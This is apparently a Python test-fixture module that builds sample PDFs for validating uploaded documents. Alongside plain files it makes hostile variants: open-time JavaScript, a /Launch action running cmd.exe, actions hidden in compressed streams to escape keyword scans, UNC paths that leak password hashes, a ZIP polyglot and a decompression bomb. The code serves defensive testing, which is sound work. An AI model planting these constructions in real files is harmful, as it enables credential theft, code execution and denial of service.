"""PDF files of every sort, made by the library as programs make them, and the register that names one (SPEC S-13)."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


@dataclass(frozen=True)
class Pdf:
    """A document as a phone has it."""

    data: bytes
    name: str = "Kế hoạch 12.pdf"

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.data).hexdigest()

    @property
    def key(self) -> str:
        return self.sha256[:16]

    @property
    def register(self) -> dict[str, Any]:
        """The `set` of a write that adds it (SPEC P-17)."""
        value = {
            "sha256": self.sha256,
            "size_bytes": len(self.data),
            "type": "application/pdf",
            "name": self.name,
            "added_at": 1_627_000_000_000,
        }
        return {f"documents/{self.key}": value}


def pdf(seed: int = 0, name: str = "Kế hoạch 12.pdf") -> Pdf:
    """One blank page; another file for each seed."""
    return Pdf(_made(_writer(seed)), name)


def locked() -> Pdf:
    """With a password."""
    writer = _writer()
    writer.encrypt("mat khau", algorithm="AES-256")
    return Pdf(_made(writer))


def with_script() -> Pdf:
    """With a script that runs when it is opened."""
    writer = _writer()
    act = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert")}
    )
    writer.root_object[NameObject("/OpenAction")] = act
    return Pdf(_made(writer))


def packed(*, script: bool) -> Pdf:
    """Its objects in a compressed stream, where no search for a word finds a script (ISO 32000-1, 7.5.7)."""
    act = "/OpenAction << /S /JavaScript /JS (app.alert) >>" if script else ""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {act} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    objects.append("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    places = " ".join(f"{nth} {sum(len(each) + 1 for each in objects[: nth - 1])}" for nth in (1, 2, 3)) + " "
    inside = zlib.compress((places + " ".join(objects)).encode())
    made = b"%PDF-1.5\n"
    at_stream = len(made)
    about = f"/Type /ObjStm /N 3 /First {len(places)} /Filter /FlateDecode /Length {len(inside)}"
    made += f"4 0 obj\n<< {about} >>\nstream\n".encode() + inside + b"\nendstream\nendobj\n"
    at_table = len(made)
    rows = [(0, 0, 255), *((2, 4, nth) for nth in range(3)), (1, at_stream, 0), (1, at_table, 0)]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    about = f"/Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length {len(table)}"
    made += f"5 0 obj\n<< {about} >>\nstream\n".encode() + table + b"\nendstream\nendobj\n"
    return Pdf(made + f"startxref\n{at_table}\n%%EOF\n".encode())


def with_file() -> Pdf:
    """With another file inside."""
    writer = _writer()
    writer.add_attachment("so-lieu.csv", b"a,b\n")
    return Pdf(_made(writer))


def that_starts() -> Pdf:
    """With a page that starts a program of the reader's computer."""
    writer = _writer()
    act = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): act})
    return Pdf(_made(writer))


def written(catalog: str, *more: str) -> Pdf:
    """By hand, as no library would: what its catalog has besides pages, and its objects from the fourth on."""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    objects += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", *more]
    made, places = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{each}\nendobj\n".encode("latin-1")
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}"
    trailer = f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(made)}\n%%EOF\n"
    return Pdf(made + (table + trailer).encode())


_OUTSIDE = "https://example.org/a"
_SHARE = r"\\\\10.0.0.1\\a\\b.pdf"
"""A path of another computer, as a string of a PDF has it: whoever opens it gives away a name and a password's hash."""
REACHING = {
    "a page of the web at once": written(f"/OpenAction << /S /URI /URI ({_OUTSIDE}) >>"),
    "by another object": written("/OpenAction 4 0 R", f"<< /S /URI /URI ({_OUTSIDE}) >>"),
    "printed at once": written("/OpenAction << /S /Named /N /Print >>"),
    "first a place, then more": written("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>"),
    "when it is closed": written(f"/AA << /WC << /S /URI /URI ({_OUTSIDE}) >> >>"),
    "in what a library passes over": written(f"/Junk xyz /OpenAction << /S /URI /URI ({_OUTSIDE}) >>"),
    "a file of another computer": written(f"/A << /S /GoToR /F ({_SHARE}) /D [0 /Fit] >>"),
    "a link into the network": written(f"/A << /S /URI /URI ({_SHARE}) >>"),
    "a link to a file": written("/A << /S /URI /URI (file://10.0.0.1/a/b.pdf) >>"),
    "bytes of another file": written("", f"<< /Length 0 /F ({_SHARE}) >>\nstream\n\nendstream"),
    "bytes of the web": written("", f"<< /Length 0 /F << /FS /URL /F ({_OUTSIDE}) >> >>\nstream\n\nendstream"),
    "a file's name": written("/A 4 0 R", f"<< /Type /Filespec /F ({_SHARE}) >>"),
    "a file by its other name": written("/A 4 0 R", f"<< /Type /Filespec /UF ({_SHARE}) >>"),
}
"""What begins by itself or reaches out of the document."""


def that_takes_long(streams: int, mb: int = 8) -> Pdf:
    """A few kilobytes, packed: in each stream of objects a string of `mb`."""
    made = []
    for number in range(streams + 4, 2 * streams + 4):
        inside = zlib.compress(f"{number:<3} 0 (".encode() + b"x" * (mb << 20) + b")")
        about = f"<< /Type /ObjStm /N 1 /First 6 /Filter /FlateDecode /Length {len(inside)} >>"
        made.append(f"{about}\nstream\n{inside.decode('latin-1')}\nendstream")
    head = written("", *made).data.partition(b"xref\n0 ")[0]
    places = [head.index(f"\n{number} 0 obj".encode()) + 1 for number in range(1, streams + 4)]
    rows = [(0, 0, 255), *((1, place, 0) for place in places)]
    rows += [(2, number, 0) for number in range(4, streams + 4)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    about = f"/Type /XRef /Size {len(rows)} /W [1 4 1] /Root 1 0 R /Length {len(table)}"
    made_at = f"\nendstream\nendobj\nstartxref\n{len(head)}\n%%EOF\n"
    return Pdf(head + f"999 0 obj\n<< {about} >>\nstream\n".encode() + table + made_at.encode())


def tagged(paragraphs: int) -> Pdf:
    """As office programs write for screen readers: an entry for each paragraph, with 60 pieces of text."""
    kids = " ".join(f"{number} 0 R" for number in range(5, 5 + paragraphs))
    marks = " ".join(map(str, range(60)))
    entries = [f"<< /Type /StructElem /S /P /P 4 0 R /Pg 3 0 R /K [{marks}] >>"] * paragraphs
    return written("/StructTreeRoot 4 0 R", f"<< /Type /StructTreeRoot /K [{kids}] >>", *entries)


def with_archive() -> Pdf:
    """Followed by an archive, whose comment is the end of a PDF."""
    out = io.BytesIO(pdf().data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("chay.js", "WScript")
        archive.comment = b"startxref\n0\n%%EOF\n"
    return Pdf(out.getvalue())


def _writer(seed: int = 0) -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": f"Van ban {seed}"})
    return writer


def _made(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
